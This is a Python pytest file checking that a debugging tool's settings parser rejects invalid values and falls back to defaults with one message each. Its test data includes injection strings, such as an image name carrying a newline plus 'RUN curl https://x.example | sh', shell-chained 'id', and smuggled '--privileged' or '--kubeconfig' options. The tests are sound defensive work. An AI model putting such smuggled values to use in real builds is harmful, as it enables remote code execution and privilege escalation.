"""Every kind of invalid setting value is dropped with one message naming the setting and what it expects; the
default is used and the rest of the settings still apply (core/settings.py)."""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest
from debugbox.core.settings import TIMEOUT_RANGE, Settings, parse_settings

DEFAULT = Settings()

INVALID: list[tuple[str, Any, str]] = [
    # timeouts: huge, infinite, NaN, zero, negative, not a number
    ("docker.timeoutSeconds", 1e300, "from 0.1 to 600"),
    ("docker.timeoutSeconds", float("inf"), "from 0.1 to 600"),
    ("docker.timeoutSeconds", float("nan"), "from 0.1 to 600"),
    ("docker.timeoutSeconds", 0, "from 0.1 to 600"),
    ("kubernetes.timeoutSeconds", -5, "from 0.1 to 600"),
    ("kubernetes.timeoutSeconds", "10", "from 0.1 to 600"),
    ("kubernetes.timeoutSeconds", True, "from 0.1 to 600"),
    ("docker.timeoutSeconds", -0.0, "from 0.1 to 600"),
    ("docker.timeoutSeconds", 0.05, "from 0.1 to 600"),
    ("docker.timeoutSeconds", 601, "from 0.1 to 600"),
    ("kubernetes.timeoutSeconds", 86400, "from 0.1 to 600"),
    ("kubernetes.timeoutSeconds", {"seconds": 5}, "from 0.1 to 600"),
    ("kubernetes.timeoutSeconds", 0, "from 0.1 to 600"),
    ("docker.timeoutSeconds", -1, "from 0.1 to 600"),
    # booleans given as strings or numbers
    ("allowPrivileged", "true", "JSON boolean"),
    ("allowPrivileged", 1, "JSON boolean"),
    ("session.raw", "true", "JSON boolean"),
    ("session.raw", "false", "JSON boolean"),
    ("session.raw", 0, "JSON boolean"),
    # enums: unknown values, another case, numbers
    ("strategy", "rootkit", "one of auto"),
    ("strategy", "Sidecar", "one of auto"),
    ("strategy", "", "one of auto"),
    ("kubernetes.profile", "privileged", "one of auto"),
    ("kubernetes.profile", 1, "one of auto"),
    ("logLevel", 3, "one of error"),
    ("logLevel", "verbose", "one of error"),
    ("logLevel", "warn", "one of error"),
    ("compose.engine", "podman-compose", "one of auto"),
    ("compose.engine", "Podman", "one of auto"),
    ("compose.engine", "/usr/bin/podman", "one of auto"),
    ("compose.engine", 1, "one of auto"),
    # images: a newline would write an extra instruction into Dockerfile.debug; options; shell syntax
    ("debugImage.toolsImage", "busybox:musl\nRUN curl https://x.example | sh", "image reference"),
    ("debugImage.toolsImage", "--privileged", "image reference"),
    ("toolboxImage", "nicolaka/netshoot; id", "image reference"),
    ("toolboxImage", "", "image reference"),
    ("debugImage.appImage", "app\nUSER root", "image reference"),
    # names
    ("kubernetes.namespace", "-n", "namespace"),
    ("kubernetes.context", "--kubeconfig=/tmp/x", "context"),
    # lists
    ("debugImage.tools", "curl", "list"),
    ("debugImage.tools", ["curl", 5], "list"),
    ("debugImage.tools", ["curl", ""], "list"),
    # toolbox images per context/namespace: each entry is checked; a typo'd key would widen the entry
    ("kubernetes.toolboxImages", "registry.example/tools:1", "expected a list"),
    ("kubernetes.toolboxImages", {"namespace": "shop", "image": "tools:1"}, "expected a list"),
    (
        "kubernetes.toolboxImages",
        [{"namespace": "shop", "image": "tools:1\nRUN id"}],
        "not an image reference",
    ),
    ("kubernetes.toolboxImages", [{"namespace": "shop", "image": "--privileged"}], "not an image reference"),
    ("kubernetes.toolboxImages", [{"namespace": "shop"}], "not an image reference"),
    ("kubernetes.toolboxImages", [{"namespaces": "shop", "image": "tools:1"}], "unknown key 'namespaces'"),
    ("kubernetes.toolboxImages", [{"image": "tools:1"}], "names neither a context nor a namespace"),
    (
        "kubernetes.toolboxImages",
        [{"context": "--kubeconfig=/x", "image": "t:1"}],
        "not a kubeconfig context",
    ),
    ("kubernetes.toolboxImages", [{"namespace": "-n", "image": "tools:1"}], "not a namespace name"),
    ("kubernetes.toolboxImages", [{"namespace": 5, "image": "tools:1"}], "is not a string"),
    ("kubernetes.toolboxImages", ["tools:1"], "not an object"),
    # strings given as other JSON types
    ("toolboxImage", 5, "image reference"),
    ("kubernetes.namespace", ["default"], "namespace"),
    ("kubernetes.context", False, "context"),
]

#: A group of settings that is not an object: without a message, every value in it would be lost silently.
SECTIONS_NOT_OBJECTS: list[tuple[dict[str, Any], str]] = [
    ({"docker": "fast"}, "debugbox.docker"),
    ({"kubernetes": 5}, "debugbox.kubernetes"),
    ({"debugImage": ["curl"]}, "debugbox.debugImage"),
    ({"session": True}, "debugbox.session"),
    ({"debugbox.docker": "fast"}, "debugbox.docker"),
    ({"debugbox": "all"}, "debugbox:"),
]


def nested(key: str, value: Any) -> dict[str, Any]:
    head, _, rest = key.partition(".")
    return {head: nested(rest, value)} if rest else {head: value}


def value_of(settings: Settings, key: str) -> Any:
    obj: Any = settings
    for part in key.split("."):
        obj = getattr(obj, "".join("_" + c.lower() if c.isupper() else c for c in part))
    return obj


@pytest.mark.parametrize(("key", "value", "expected"), INVALID, ids=[f"{k}={v!r}" for k, v, _ in INVALID])
def test_an_invalid_value_falls_back_to_the_default_with_one_message(
    key: str, value: Any, expected: str
) -> None:
    for raw in (nested(key, value), {f"debugbox.{key}": value}):
        settings, problems = parse_settings({**raw, "strategy": "sidecar"} if key != "strategy" else raw)
        assert value_of(settings, key) == value_of(DEFAULT, key)
        (problem,) = problems
        assert f"debugbox.{key}" in problem and expected in problem and "\n" not in problem
        if key != "strategy":
            assert settings.strategy == "sidecar"  # the valid rest still applies


@pytest.mark.parametrize("raw", [[1], "debugbox", 5, True, 1.5, [{"strategy": "sidecar"}]])
def test_a_payload_that_is_not_an_object_is_one_message(raw: Any) -> None:
    settings, problems = parse_settings(raw)
    assert settings == DEFAULT and len(problems) == 1 and "must be an object" in problems[0]
    assert type(raw).__name__ in problems[0]  # says what it got


@pytest.mark.parametrize(
    ("raw", "named"), SECTIONS_NOT_OBJECTS, ids=[repr(r) for r, _ in SECTIONS_NOT_OBJECTS]
)
def test_a_group_that_is_not_an_object_is_one_message(raw: dict[str, Any], named: str) -> None:
    settings, problems = parse_settings({**raw, "strategy": "sidecar"})
    (problem,) = problems
    assert problem.startswith(f"invalid value for {named}") and "expected an object of settings" in problem
    assert settings == Settings(strategy="sidecar")  # the group's defaults, the valid rest applied


def test_a_null_group_or_value_means_not_set() -> None:
    settings, problems = parse_settings({"docker": None, "strategy": None, "session": {"raw": None}})
    assert problems == [] and settings == DEFAULT


def _leaves(cls: type[Any], prefix: str = "") -> dict[str, Any]:
    """Every setting as its camelCase key with its default value."""
    leaves: dict[str, Any] = {}
    for f in dataclasses.fields(cls):
        key = prefix + f.name.split("_")[0] + "".join(part.title() for part in f.name.split("_")[1:])
        default = getattr(cls(), f.name)
        if dataclasses.is_dataclass(default):
            leaves.update(_leaves(type(default), key + "."))
        else:
            leaves[key] = default
    return leaves


def test_every_setting_has_its_kinds_of_invalid_value_tested() -> None:
    """A new setting must come with its invalid values above: the string "true" for a boolean, zero, a
    negative and a huge number for a timeout, an unknown value for an enum, another JSON type for the rest."""
    tested: dict[str, list[Any]] = {}
    for key, value, _ in INVALID:
        tested.setdefault(key, []).append(value)
    for key, default in _leaves(Settings).items():
        values = tested.get(key, [])
        assert values, f"no invalid value tested for debugbox.{key}"
        if isinstance(default, bool):
            assert "true" in values or "false" in values, key
        elif isinstance(default, float):
            numbers = [v for v in values if isinstance(v, int | float) and not isinstance(v, bool)]
            assert any(v == 0 for v in numbers), f"{key}: zero"
            assert any(v < 0 for v in numbers), f"{key}: a negative number"
            assert any(v > TIMEOUT_RANGE[1] for v in numbers), f"{key}: a huge number"
        elif key in ("strategy", "logLevel", "kubernetes.profile"):
            assert any(isinstance(v, str) for v in values), f"{key}: an unknown string"


def test_valid_values_are_kept() -> None:
    raw = {
        "docker": {"timeoutSeconds": 600},
        "kubernetes": {"timeoutSeconds": 0.5, "namespace": "shop", "context": "kind-dev"},
        "debugImage": {
            "toolsImage": "registry.example:5000/tools/busybox@sha256:" + "a" * 64,
            "appImage": "",
        },
        "allowPrivileged": True,
    }
    settings, problems = parse_settings(raw)
    assert problems == []
    assert settings.docker.timeout_seconds == 600.0 and settings.kubernetes.timeout_seconds == 0.5
    assert settings.debug_image.tools_image.startswith("registry.example:5000/") and settings.allow_privileged
